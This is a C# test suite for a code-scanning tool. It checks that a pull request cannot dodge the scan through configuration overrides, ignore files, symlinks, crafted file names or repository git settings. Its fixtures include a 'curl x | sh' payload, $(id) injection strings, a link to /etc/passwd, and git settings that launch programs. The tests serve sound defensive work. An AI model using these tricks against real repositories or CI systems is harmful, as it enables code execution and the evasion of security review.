using System.Text.Json;

namespace Sandbox.Check.Tests.Hostile;

/// <summary>What a pull request may try so that its code is not judged, against the base branch's configuration and against a policy.</summary>
public sealed class PullRequestTests
{
    private const string Evil = "import os\nos.system('curl x | sh')\n";

    /// <summary>What the pull request changes, as files; each hides <see cref="Evil"/> where nobody stands above the repository.</summary>
    public static TheoryData<string, string, string> Attempts => new()
    {
        { "nodes/evil.py", "sandbox-check.yaml", "scan: { fail_on: critical }" },
        { "nodes/evil.py", "sandbox-check.yaml", "scan: { exclude: ['nodes/**'] }" },
        { "nodes/evil.py", "sandbox-check.yaml", "scan: { include: ['a.py'] }" },
        { "nodes/evil.py", "sandbox-check.yaml", "scan: { exclude: ['**/evil.py'], include: ['**'] }" },
        { "nodes/evil.py", "sandbox-check.yaml", "profiles: { p: { extends: node, allow_imports: [os] } }\ndefaults: { profile: p }" },
        { "nodes/evil.py", "sandbox-check.yaml", "profiles: { p: { extends: node, allow_imports: [os] } }\noverrides: [{ files: ['nodes/*'], profile: p }]" },
        { "nodes/evil.py", ".gitignore", "evil.py\n" },
        { "nodes/evil.py", "nodes/.gitignore", "*\n" },
        { "nodes/evil.py", ".gitignore", "*\n!.gitignore\n" },
        { "site-packages/evil.py", "x.txt", "" },
        { ".venv/lib/evil.py", "x.txt", "" },
        { "node_modules/p/evil.py", ".gitignore", "node_modules\n" },
        { "build/evil.py", "x.txt", "" },
    };

    [Theory]
    [MemberData(nameof(Attempts))]
    public async Task It_is_judged_by_the_base_branch(string evil, string file, string content)
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With(".gitignore", "build/\n").With("a.py", "x = 1\n").AsMain()
            .With(evil, Evil).With(file, content).Commit();
        await IsFound(repository, evil, "--config-from", "main");
    }

    [Theory]
    [MemberData(nameof(Attempts))]
    public async Task It_is_judged_by_the_policy(string evil, string file, string content)
    {
        using var repository = new GitRepository().With(".gitignore", "build/\n").With("a.py", "x = 1\n").AsMain().With(evil, Evil).With(file, content).Commit();
        repository.Work.With("policy.yaml", "version: 1\n");
        await IsFound(repository, evil, "--policy", "policy.yaml");
    }

    [Theory]
    [MemberData(nameof(Attempts))]
    public async Task Alone_the_repository_decides(string evil, string file, string content)
    {
        // The attempts are real ones: without an operator each of them works, and no gate fails.
        using var repository = new GitRepository().With(".gitignore", "build/\n").With("a.py", "x = 1\n").AsMain().With(evil, Evil).With(file, content).Commit();
        var result = await repository.Work.Run("scan", "repo");
        Assert.NotEqual(1, result.Code);
    }

    [Theory]
    [InlineData("scan: { inline_suppressions: true }\n")]
    [InlineData("version: 1\n")]
    public async Task Comments_hold_nothing_back(string own)
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain()
            .With("sandbox-check.yaml", own).With("evil.py", "import os\nos.system('x')  # sandbox-check: ignore[SBX1101] -- fine\n").Commit();
        await IsFound(repository, "evil.py", "--config-from", "main");
    }

    [Fact]
    public async Task Baselines_of_its_own_hold_nothing_back()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "scan: { baseline: b.json }\n").With("b.json", """{ "version": 1, "entries": [] }""").With("a.py", "x = 1\n").AsMain().With("evil.py", Evil);
        await repository.Work.Run("baseline", "create", "repo", "--reason", "x", "--baseline", "repo/b.json");
        await repository.Work.Run("baseline", "create", "repo", "--reason", "x", "--baseline", "repo/own.json");
        repository.Commit();
        Assert.Equal(0, (await repository.Work.Run("scan", "repo")).Code);
        await IsFound(repository, "evil.py", "--config-from", "main");
        repository.With("sandbox-check.yaml", "scan: { baseline: own.json }\n").Commit();
        Assert.Contains("'scan.baseline: own.json' is not the operator's 'b.json'", await IsFound(repository, "evil.py", "--config-from", "main"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_base_branchs_baseline_holds()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "scan: { baseline: b.json }\n").With("b.json", """{ "version": 1 }""").With("old.py", Evil);
        await repository.Work.Run("baseline", "create", "repo", "--reason", "x");
        repository.AsMain().With("new.py", "x = 1\n").Commit();
        File.Delete(repository.PathOf("b.json"));
        Assert.Equal(0, (await repository.Work.Run("scan", "repo", "--config-from", "main")).Code);
        repository.With("old.py", "x = 1\n");
        Assert.Contains("note: main:b.json:5: A baseline entry holds nothing back", (await repository.Work.Run("scan", "repo", "--config-from", "main")).Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_configuration_in_a_subfolder_does_not_replace_the_base_branchs()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "scan: { fail_on: medium }\noverrides: [{ files: ['nodes/**'], profile: strategy }]\n").With("a.py", "x = 1\n").AsMain()
            .With("nodes/sandbox-check.yaml", "scan: { fail_on: critical }\noverrides: [{ files: ['**'], profile: node }]\n").With("nodes/evil.py", Evil).Commit();
        var report = await IsFound(repository, "nodes/evil.py", "--config-from", "main");
        Assert.DoesNotContain("SBX9008", report, StringComparison.Ordinal);
        var result = await repository.Work.Run("scan", "repo/nodes", "--config-from", "main", "--format", "json");
        Assert.Equal(1, result.Code);
        Assert.Contains("'scan.fail_on: critical' is not the operator's 'medium'", result.Out, StringComparison.Ordinal);
        Assert.Contains("the profile 'node' is weaker than 'strategy'", result.Out, StringComparison.Ordinal);
        Assert.Contains("\"path\": \"nodes/sandbox-check.yaml\"", result.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Globs_of_a_subfolder_are_not_the_base_branchs()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "scan: { include: ['nodes/**'] }\n").With("nodes/a.py", "x = 1\n").AsMain()
            .With("nodes/sandbox-check.yaml", "scan: { include: ['nodes/**'] }\n").With("nodes/evil.py", Evil).With("nodes/nodes/b.py", "x = 1\n").Commit();
        var result = await repository.Work.Run("scan", "repo/nodes", "--config-from", "main", "--format", "json");
        Assert.Contains("\"path\": \"nodes/evil.py\"", result.Out, StringComparison.Ordinal);
        Assert.Contains("leaves out 'nodes/**', which the operator scans", result.Out, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("-rf.py")]
    [InlineData("--policy.py")]
    [InlineData("a\nb.py")]
    [InlineData("\u001b[31mred.py")]
    [InlineData("\u202egnp.py")]
    [InlineData("sp ace'\"$(id)`.py")]
    [InlineData("::error::x.py")]
    [InlineData(":(exclude)x.py")]
    [InlineData("é\u00a0.py")]
    public async Task Odd_names_hide_nothing_and_reach_no_terminal(string name)
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain().With("d/" + name, Evil).With(".gitignore", "d/\n").Commit();
        await IsFound(repository, "d/" + name, "--config-from", "main");
        var text = await repository.Work.Run("scan", "repo", "--config-from", "main");
        Assert.Equal(1, text.Code);
        Assert.DoesNotContain('\u001b', text.Out);
        Assert.DoesNotContain('\u202e', text.Out);
        Assert.DoesNotContain("\n::error", text.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Links_hide_no_code()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain().With("data/notes.txt", Evil);
        File.CreateSymbolicLink(repository.PathOf("evil.py"), "data/notes.txt");
        File.CreateSymbolicLink(repository.PathOf("passwd.py"), "/etc/passwd");
        File.CreateSymbolicLink(repository.PathOf("loop.py"), "loop.py");
        repository.Commit();
        var report = await IsFound(repository, "evil.py", "--config-from", "main");
        Assert.DoesNotContain("passwd.py", report, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("main", "sandbox-check.yaml", "a symbolic link")]
    [InlineData("--upload-pack=x", "", "--config-from must be a branch, tag or commit")]
    [InlineData("main:sandbox-check.yaml", "", "--config-from must be a branch")]
    [InlineData("main..pull", "", "--config-from must be a branch")]
    [InlineData("main\nx", "", "--config-from must be a branch")]
    [InlineData("$(id)", "", "--config-from must be a branch")]
    [InlineData("nowhere", "", "there is no commit 'nowhere' here")]
    [InlineData("main~9", "", "there is no commit 'main~9' here")]
    [InlineData("empty", "", "empty holds no sandbox-check.yaml for this; commit one there")]
    public async Task What_cannot_be_read_is_said(string reference, string link, string expected)
    {
        using var repository = new GitRepository().With("a.py", "x = 1\n").Commit();
        repository.Git("branch", "empty");
        if (link.Length > 0)
            File.CreateSymbolicLink(repository.PathOf(link), "/etc/passwd");
        repository.AsMain();
        if (link.Length > 0)
        {
            File.Delete(repository.PathOf(link));
            expected = "main:sandbox-check.yaml is no plain file (mode 120000)";
        }

        (await repository.Work.Run("scan", "repo", "--config-from", reference)).Refuses(expected);
    }

    [Fact]
    public async Task A_name_that_means_two_commits_is_refused()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain();
        repository.Git("update-ref", "refs/remotes/origin/main", "main");
        Assert.Equal(0, (await repository.Work.Run("scan", "repo", "--config-from", "origin/main")).Code);
        repository.With("sandbox-check.yaml", "scan: { fail_on: critical }\n").With("evil.py", Evil).Commit();
        // The pull request's branch is called as the remote's: git would take it.
        repository.Git("branch", "origin/main");
        (await repository.Work.Run("scan", "repo", "--config-from", "origin/main")).Refuses("means several commits: refs/heads/origin/main, refs/remotes/origin/main");
        await IsFound(repository, "evil.py", "--config-from", "refs/remotes/origin/main");
        var id = repository.Git("rev-parse", "main")[..7];
        repository.Git("branch", id);
        (await repository.Work.Run("scan", "repo", "--config-from", id)).Refuses("looks like a commit");
    }

    [Fact]
    public async Task Without_git_or_a_repository_it_says_so()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain();
        repository.Work.With("plain/a.py", "x = 1\n");
        (await repository.Work.Run("scan", "plain", "--config-from", "main")).Refuses("--config-from reads a git repository");
        // A git in the repository or the working directory is never started.
        repository.Work.With("git", "#!/bin/sh\ntouch started\n").With("repo/git", "#!/bin/sh\ntouch started\n");
        foreach (var planted in new[] { "git", "repo/git" })
            repository.MakeProgram(planted);
        repository.Work["PATH"] = $".:{repository.PathOf("")}:";
        (await repository.Work.Run("scan", "repo", "--config-from", "main")).Refuses("--config-from needs git, which is not on PATH");
        Assert.False(repository.Work.Has("started") || repository.Work.Has("repo/started"));
    }

    /// <summary>A repository whose own git settings would start a program on every look.</summary>
    [Theory]
    [InlineData("core.fsmonitor")]
    [InlineData("core.pager")]
    [InlineData("core.sshCommand")]
    [InlineData("core.askPass")]
    [InlineData("diff.external")]
    [InlineData("diff.x.textconv")]
    [InlineData("filter.x.smudge")]
    [InlineData("filter.x.clean")]
    [InlineData("alias.ls-tree")]
    [InlineData("alias.rev-parse")]
    [InlineData("core.alternateRefsCommand")]
    [InlineData("gpg.program")]
    public async Task The_repositorys_git_settings_start_nothing(string setting)
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With(".gitattributes", "* diff=x filter=x\n").With("a.py", "x = 1\n").AsMain().With("evil.py", Evil).Commit();
        var marker = repository.Work.PathOf("started");
        repository.Work.With("run.sh", $"#!/bin/sh\ntouch '{marker}'\n");
        repository.MakeProgram("run.sh");
        repository.Git("config", setting, (setting.StartsWith("alias", StringComparison.Ordinal) ? "!" : "") + repository.Work.PathOf("run.sh"));
        foreach (var hook in new[] { "post-checkout", "reference-transaction", "post-index-change" })
            File.Copy(repository.Work.PathOf("run.sh"), repository.PathOf($".git/hooks/{hook}"));
        await IsFound(repository, "evil.py", "--config-from", "main");
        Assert.False(File.Exists(marker));
    }

    [Fact]
    public async Task A_missing_object_is_not_fetched()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain();
        var marker = repository.Work.PathOf("started");
        foreach (var (key, value) in new[] { ("remote.origin.url", $"ext::sh -c touch% {marker}"), ("remote.origin.promisor", "true"), ("extensions.partialClone", "origin"), ("core.repositoryformatversion", "1"), ("protocol.ext.allow", "always") })
            repository.Git("config", key, value);
        var blob = repository.Git("rev-parse", "main:sandbox-check.yaml").Trim();
        File.Delete(repository.PathOf($".git/objects/{blob[..2]}/{blob[2..]}"));
        var result = await repository.Work.Run("scan", "repo", "--config-from", "main");
        Assert.Equal(2, result.Code);
        Assert.False(File.Exists(marker));
    }

    [Fact]
    public async Task Replaced_objects_are_not_believed()
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "scan: { fail_on: low }\n").With("a.py", "x = 1\n").AsMain();
        var original = repository.Git("rev-parse", "main:sandbox-check.yaml").Trim();
        repository.With("other", "scan: { fail_on: critical }\n");
        var other = repository.Git("hash-object", "-w", "other").Trim();
        repository.Git("replace", original, other);
        Assert.Contains("scan.fail_on: low  # main:sandbox-check.yaml:1:18", (await repository.Work.Run("scan", "repo", "--config-from", "main", "--print-config")).Out, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("GIT_DIR", "other/.git")]
    [InlineData("GIT_INDEX_FILE", "other/.git/index")]
    [InlineData("GIT_OBJECT_DIRECTORY", "other/.git/objects")]
    [InlineData("GIT_EXTERNAL_DIFF", "/bin/false")]
    public async Task Variables_of_git_lead_nowhere_else(string name, string value)
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain().With("evil.py", Evil).Commit();
        repository.Work[name] = repository.Work.PathOf(value);
        await IsFound(repository, "evil.py", "--config-from", "main");
    }

    /// <summary>Broken or hostile documents end the check; none of them is taken for no configuration.</summary>
    [Theory]
    [InlineData("a: &a [*a]")]
    [InlineData("scan: { fail_on: low, fail_on: critical }")]
    [InlineData("scan: &x { fail_on: low }\nscan: *x")]
    [InlineData("? [a]\n: b")]
    [InlineData("!!binary x")]
    [InlineData("policy: { allow_no_scan: true }")]
    [InlineData("<<: { scan: {} }")]
    [InlineData("\0")]
    public async Task A_broken_configuration_is_no_way_out(string own)
    {
        using var repository = new GitRepository().With("sandbox-check.yaml", "version: 1\n").With("a.py", "x = 1\n").AsMain().With("sandbox-check.yaml", own).Commit();
        Assert.Equal(2, (await repository.Work.Run("scan", "repo", "--config-from", "main")).Code);
    }

    [Fact]
    public async Task A_new_folder_may_be_set_up_in_the_pull_request()
    {
        const string Config = "defaults: { profile: node, kind: node }\ndocker: { memory_limit: '${MEMORY}' }\nprofiles: { desk: { extends: strategy, deny_imports: [random] } }\n";
        using var repository = new GitRepository().With("sandbox-check.yaml", Config).With("a.py", "x = 1\n").AsMain()
            .With("sandbox-check.yaml", Config + "overrides: [{ files: ['evals/**'], profile: eval, kind: function, entry: go }, { files: ['s/**'], profile: desk, kind: script }]\n")
            .With("evals/e.py", "def go(x):\n    return x\n").With("evals/e.one.input.json", "1").With("s/s.py", "result = 1\n").Commit();
        repository.Work["MEMORY"] = "256m";
        var result = await repository.Work.Run("check", "repo", "--config-from", "main", "--format", "json");
        Assert.DoesNotContain("SBX9008", result.Out, StringComparison.Ordinal);
        Assert.Equal(["eval", "desk"], repository.Work.Engine.Jobs.OrderBy(j => j.Node.Path, StringComparer.Ordinal).Select(j => j.Profile));
    }

    /// <summary>The check fails, and the evil file is among its findings with its true level.</summary>
    private static async Task<string> IsFound(GitRepository repository, string evil, params string[] options)
    {
        var result = await repository.Work.Run(["scan", "repo", "--format", "json", .. options]);
        Assert.True(result.Code == 1, $"{result.Code}: {result.Error}{result.Out}");
        var files = JsonDocument.Parse(result.Out).RootElement.GetProperty("files").EnumerateArray();
        var file = Assert.Single(files, f => f.GetProperty("path").GetString() == evil);
        Assert.Contains(file.GetProperty("riskLevel").GetString(), new[] { "HIGH", "CRITICAL" });
        return result.Out;
    }
}
